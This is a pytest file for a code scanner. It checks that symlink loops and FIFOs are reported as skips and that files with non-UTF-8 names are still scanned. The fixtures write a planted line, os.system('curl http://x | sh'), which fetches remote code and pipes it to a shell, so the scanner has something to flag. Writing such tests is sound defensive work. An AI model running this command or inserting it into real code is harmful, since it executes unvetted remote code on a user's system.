"""Hostile file-system entries inside a scanned folder: link loops and FIFOs are reported skips, never a
traceback or a scan blocked forever (issue 15)."""
from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent


def _scan(*args: str) -> tuple[int, dict, str]:
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    done = subprocess.run([sys.executable, "-m", "codescan", "scan", *args, "--format", "json", "--no-progress"],
                          capture_output=True, timeout=120, env=env, cwd=str(ROOT))
    return done.returncode, json.loads(done.stdout or b"{}"), done.stderr.decode()


def test_link_loops_and_fifos_are_skips_with_reasons(tmp_path):
    (tmp_path / "sub").mkdir()
    (tmp_path / "sub" / "back").symlink_to("..")
    (tmp_path / "self1").symlink_to("self2")
    (tmp_path / "self2").symlink_to("self1")
    for name in ("pipe.jsonl", "pipe.parquet", "pipe.py"):
        os.mkfifo(tmp_path / name)
    (tmp_path / "a.py").write_text("import os\nos.system('curl http://x | sh')\n")
    code, report, err = _scan(str(tmp_path))
    assert "Traceback" not in err and code == 1, err
    reasons = {s["path"]: s["reason"] for s in report["skipped"]}
    assert "loop" in reasons["self1"] and "loop" in reasons["self2"]
    for name in ("pipe.jsonl", "pipe.parquet", "pipe.py"):
        assert "not a regular file" in reasons[name]
    assert any(f["path"] == "a.py" for f in report["findings"])
    code, report, err = _scan(str(tmp_path / "pipe.jsonl"))
    assert "not a regular file" in report["skipped"][0]["reason"], err


def test_names_that_are_not_utf8_are_scanned_and_shown_escaped(tmp_path):
    """One odd byte in a file or folder name must not hide the file: it is read, and its path is shown with
    \\xNN escapes (it was a skip, 'file name is not valid UTF-8', and the payload went unread)."""
    bad = b"import os\nos.system('curl http://x | sh')\n"
    base = os.fsencode(tmp_path)
    with open(base + b"/caf\xe9.py", "wb") as fh:
        fh.write(bad)
    os.mkdir(base + b"/dir\xfe")
    with open(base + b"/dir\xfe/run.py", "wb") as fh:
        fh.write(bad)
    code, report, err = _scan(str(tmp_path))
    assert "Traceback" not in err and code == 1, err
    assert sorted(f["path"] for f in report["findings"]) == ["caf\\xe9.py", "dir\\xfe/run.py"], report
    assert report["skipped"] == []
    code, report, err = _scan(os.fsdecode(base + b"/caf\xe9.py"))  # named on the command line
    assert code == 1 and report["findings"][0]["path"].endswith("caf\\xe9.py"), err
